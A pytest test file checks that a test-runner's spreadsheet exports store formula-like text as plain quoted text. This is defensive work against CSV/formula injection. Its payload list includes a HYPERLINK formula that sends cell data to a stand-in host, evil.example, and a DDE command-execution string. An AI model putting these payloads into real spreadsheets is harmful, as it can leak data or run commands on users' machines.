"""Issue 17: text that starts like a formula is written as text in both spreadsheets."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from robotest.runtime.reports.xlsx import render_xlsx
from robotest.runtime.results import CaseResult, RunInfo
from robotest.server.xlsx import write_runs_workbook

TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def all_cells(book: object) -> dict[str, tuple[str, object]]:
    """Every string cell's value -> (data type, quote prefix) over every sheet."""
    found = {}
    for sheet in book.worksheets:  # type: ignore[attr-defined]
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    return found


@pytest.mark.parametrize("text", TEXTS)
def test_server_spreadsheet_writes_formula_like_text_as_text(text: str, tmp_path: Path) -> None:
    run = {
        "id": f"st1/{text}",
        "run_id": text,
        "station": "st1",
        "image": text,
        "suite_version": text,
        "started_at": "2026-03-02T10:00:00+00:00",
        "ended_at": "2026-03-02T11:00:00+00:00",
        "counts": {"passed": 1},
    }
    tests = [{"title": text, "tags": [text], "status": "passed", "duration": 1.0, "message": text}]
    write_runs_workbook([(run, tests)], tmp_path / "runs.xlsx")
    cells = all_cells(load_workbook(tmp_path / "runs.xlsx"))
    assert cells[text] == ("s", True)
    assert cells["Station"] == ("s", False)  # ordinary text is left as it is


@pytest.mark.parametrize("text", TEXTS)
def test_run_report_spreadsheet_writes_formula_like_text_as_text(text: str, tmp_path: Path) -> None:
    case = CaseResult(
        id="t",
        title=text,
        file=text,
        station="st1",
        tags=[text],
        status="failed",
        message=text,
        duration=1.0,
    )
    run = RunInfo(
        id=1,
        station="st1",
        image=text,
        image_version="",
        serial=text,
        suite_version=text,
        started=0.0,
        ended=1.0,
        status="failed",
        pid=1,
        host="h",
        cases=[case],
    )
    render_xlsx(run, tmp_path / "run.xlsx")
    cells = all_cells(load_workbook(tmp_path / "run.xlsx"))
    assert cells[text] == ("s", True)
    assert cells["Station"] == ("s", False)  # ordinary text is left as it is
